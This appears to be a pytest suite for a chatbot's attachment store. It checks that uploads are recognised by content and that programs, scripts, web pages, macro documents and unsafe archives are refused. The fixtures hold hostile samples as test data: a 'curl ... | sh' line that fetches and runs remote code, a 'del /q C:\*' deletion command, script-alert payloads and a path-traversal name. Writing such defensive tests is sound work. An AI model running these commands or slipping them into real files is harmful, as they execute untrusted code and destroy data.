"""Files are what they say (issue 13, point 12): the type comes from the content, against an allow-list;
programs, scripts and web pages are refused whatever their name; names are cleaned and shortened.

The store is tested on real files made here (python-docx, openpyxl, zipfile, an OLE container built byte
by byte as Word and Excel 97-2003 write it), then the whole path: the terminal chat as a subprocess, and
`smebot run` against the fake Bot API, where a 300-character extension used to get no reply at all.
"""

from __future__ import annotations

import asyncio
import io
import os
import sqlite3
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest

from bot.attachments import NAME_CHARS, AttachmentStore, Refused, clean_name
from tests.fakes.telegram_api import FakeTelegram
from tests.test_chat_process import chat_cmd, env

MB = 1024 * 1024
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + b"\x00" * 64
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 32
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
BATCH = b"@echo off\r\ndel /q C:\\*\r\n"
HTML = b"\xef\xbb\xbf  <!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def docx_bytes(macro: bool = False) -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Báo giá dịch vụ tư vấn")
    document.save(out)
    if not macro:
        return out.getvalue()
    with zipfile.ZipFile(out, "a") as archive:  # what Word writes for a .docm
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return out.getvalue()


def xlsx_bytes() -> bytes:
    out = io.BytesIO()
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Doanh thu"
    workbook.save(out)
    return out.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def pptx_bytes() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "ppt/presentation.xml": b"<p:presentation/>",
            "_rels/.rels": b"<Relationships/>",
        }
    )


def odt_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def ole_bytes(*streams: str) -> bytes:
    """A compound file (the container of .doc and .xls) whose directory holds ``streams``."""
    free, end, fat_sector = -1, -2, -3
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<iiiiiiii", header, 44, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109i", header, 76, 0, *([free] * 108))
    fat = struct.pack("<128i", fat_sector, end, *([free] * 126))
    directory = bytearray(512)
    for i, name in enumerate(("Root Entry", *streams)):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory[i * 128 : i * 128 + len(encoded)] = encoded
        struct.pack_into("<HB", directory, i * 128 + 64, len(encoded), 5 if i == 0 else 2)
    return bytes(header) + fat + bytes(directory)


@pytest.fixture
def store(tmp_path: Path) -> AttachmentStore:
    return AttachmentStore(tmp_path / "files", 2 * MB)


@pytest.mark.parametrize(
    ("name", "content", "extension", "mime"),
    [
        ("bao-gia.pdf", PDF, "pdf", "application/pdf"),
        ("anh.jpg", JPEG, "jpg", "image/jpeg"),
        ("so-do.png", PNG, "png", "image/png"),
        ("anh.webp", WEBP, "webp", "image/webp"),
        ("IMG_0001.HEIC", HEIC, "heic", "image/heic"),
        ("hop-dong.docx", docx_bytes(), "docx", "wordprocessingml"),
        ("doanh-thu.xlsx", xlsx_bytes(), "xlsx", "spreadsheetml"),
        ("trinh-bay.pptx", pptx_bytes(), "pptx", "presentationml"),
        ("thuyet-minh.odt", odt_bytes(), "odt", "opendocument.text"),
        ("cu.doc", ole_bytes("WordDocument", "1Table"), "doc", "application/msword"),
        ("bang.xls", ole_bytes("Workbook"), "xls", "application/vnd.ms-excel"),
        (
            "ho-so.zip",
            zip_of({"a.pdf": PDF, "b.jpg": JPEG, "c.docx": docx_bytes()}),
            "zip",
            "application/zip",
        ),
    ],
)
def test_the_allowed_kinds_are_recognised_by_their_content(
    store: AttachmentStore, name: str, content: bytes, extension: str, mime: str
) -> None:
    info = store.keep(name, content, "application/octet-stream")  # what the phone declares is not used
    assert mime in info.mime
    assert Path(info.path).read_bytes() == content and info.path.endswith(f".{extension}")
    assert Path(info.path).parent.parent == store.root


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("hoa-don.pdf", EXE, "unsafe"),  # a program that calls itself a PDF
        ("anh.jpg", ELF, "unsafe"),
        ("bao-cao.docx", SCRIPT, "unsafe"),
        ("thu.doc", BATCH, "unsafe"),
        ("bao-gia.pdf", HTML, "unsafe"),
        ("logo.png", SVG, "unsafe"),
        ("ghi-chu.txt", "Doanh thu năm nay 2 tỷ".encode(), "unknown"),
        ("cai-dat.msi", ole_bytes("SummaryInformation"), "unknown"),  # OLE, but not Word or Excel
        ("tep.docx", b"PK\x03\x04 not really a zip", "unknown"),
        ("macro.docx", docx_bytes(macro=True), "macro"),
        ("macro.doc", ole_bytes("WordDocument", "Macros"), "macro"),
        ("ho-so.zip", zip_of({"a.pdf": PDF, "setup.exe": EXE}), "archive"),
        ("ho-so.zip", zip_of({"inner.zip": zip_of({"a.pdf": PDF})}), "archive_unreadable"),
        ("bom.zip", zip_of({"a.pdf": PDF + b"\x00" * (3 * MB)}), "archive_unreadable"),
    ],
)
def test_anything_else_is_refused_whatever_its_name(
    store: AttachmentStore, name: str, content: bytes, code: str
) -> None:
    with pytest.raises(Refused) as refused:
        store.keep(name, content, "application/pdf")
    assert refused.value.code == code
    assert refused.value.params["name"] == clean_name(name)
    assert not store.root.exists() or not any(p.is_file() for p in store.root.rglob("*"))


def test_a_store_can_take_fewer_kinds(tmp_path: Path) -> None:
    photos = AttachmentStore(tmp_path, MB, ("image/",))
    assert photos.keep("a.jpg", JPEG).mime == "image/jpeg"
    with pytest.raises(Refused):
        photos.keep("a.pdf", PDF)
    with pytest.raises(Refused):
        photos.keep("a.zip", zip_of({"a.pdf": PDF}))  # a ZIP is judged by what it holds


def test_names_are_cleaned_shortened_and_given_the_real_extension() -> None:
    assert clean_name("hoa-don.exe", "pdf") == "hoa-don.pdf"
    assert clean_name("../../etc/passwd", "pdf") == "passwd.pdf"
    assert clean_name("C:\\Users\\lan\\bao gia.PDF", "pdf") == "bao gia.pdf"
    assert clean_name("Ảnh chụp.JPEG", "jpg") == "Ảnh chụp.jpeg"  # an alias of the kind is kept
    assert clean_name("báo giá v1.2", "pdf") == "báo giá v1.2.pdf"
    assert clean_name("anh\u202egpj.exe", "jpg") == "anhgpj.jpg"  # no direction override
    assert clean_name("a\x00b\x1bc\nd.pdf", "pdf") == "abc d.pdf"
    assert clean_name("", "pdf") == "tep.pdf" and clean_name("...", None) == "tep"
    long = clean_name("bao-gia." + "x" * 300, "pdf")
    assert long.endswith(".pdf") and len(long) <= NAME_CHARS + 4


def test_the_terminal_chat_refuses_a_program_in_the_users_language(tmp_path: Path) -> None:
    program = tmp_path / "hoa-don.pdf"
    program.write_bytes(EXE)
    page = tmp_path / "bao-gia.docx"
    page.write_bytes(HTML)
    quote = tmp_path / ("bao-gia." + "x" * 300)[:250]
    quote.write_bytes(PDF)
    lines = ["1", f"/file {program}", f"/file {quote}", "/lang en", f"/file {page}"]
    done = subprocess.run(
        chat_cmd(tmp_path / "smebot.db"),
        input="\n".join(lines) + "\n",
        capture_output=True,
        text=True,
        timeout=120,
        env=env(tmp_path),
    )
    assert done.returncode == 0, done.stderr
    assert "Không nhận tệp «hoa-don.pdf»: đây là chương trình, mã lệnh hoặc trang web" in done.stdout
    assert "File “bao-gia.docx” was not accepted: it is a program, a script or a web page" in done.stdout
    kept = clean_name(quote.name, "pdf")
    assert f"Đã lưu «{kept}»" in done.stdout  # the long name answered, shortened
    with sqlite3.connect(tmp_path / "smebot.db") as conn:
        rows = conn.execute("SELECT filename, mime FROM attachments").fetchall()
    assert rows == [(kept, "application/pdf")]


async def test_telegram_files_are_judged_by_content_and_long_names_get_an_answer(tmp_path: Path) -> None:
    async with FakeTelegram(token="123456:TEST") as fake:
        environment = {
            **os.environ,
            "SMEBOT_TELEGRAM_TOKEN": "123456:TEST",
            "SMEBOT_TELEGRAM_API_URL": fake.base_url,
            "SMEBOT_TELEGRAM_CHAT_INTERVAL": "0.01",
            "SMEBOT_DATABASE_URL": f"sqlite+aiosqlite:///{tmp_path / 'smebot.db'}",
            "SMEBOT_FILES_DIR": str(tmp_path / "files"),
            "SMEBOT_DOCUMENTS_DIR": str(tmp_path / "documents"),
        }
        proc = subprocess.Popen(
            [sys.executable, "-m", "bot.cli", "run"],
            env=environment,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            user = fake.user(7001)
            await user.send_text("/start")
            await user.wait_for("Nghị định 13", timeout=30)
            await user.send_text("1")
            await user.wait_for("Tên doanh nghiệp", timeout=15)
            await user.send_document(EXE, "hoa-don.pdf", "application/pdf")
            refused = await user.wait_for("Không nhận tệp", timeout=15)
            assert "«hoa-don.pdf»: đây là chương trình" in refused["text"]
            long_name = "bao-gia." + "x" * 300
            await user.send_document(PDF, long_name, "application/pdf")
            kept = await user.wait_for("Đã lưu", timeout=15)
            assert f"«{clean_name(long_name, 'pdf')}»" in kept["text"]
            await user.send_document(docx_bytes(), "hop-dong.exe", "application/x-msdownload")
            renamed = await user.wait_for("Đã lưu", timeout=15)
            assert "«hop-dong.docx»" in renamed["text"]
            await user.send_document(zip_of({"a.pdf": PDF, "run.sh": SCRIPT}), "ho-so.zip", "application/zip")
            archive = await user.wait_for("Không nhận tệp nén", timeout=15)
            assert "«run.sh»" in archive["text"]
        finally:
            proc.terminate()
            await asyncio.to_thread(proc.wait, 15)
    stored = sorted(p.suffix for p in (tmp_path / "files").rglob("*") if p.is_file())
    assert stored == [".docx", ".pdf"]
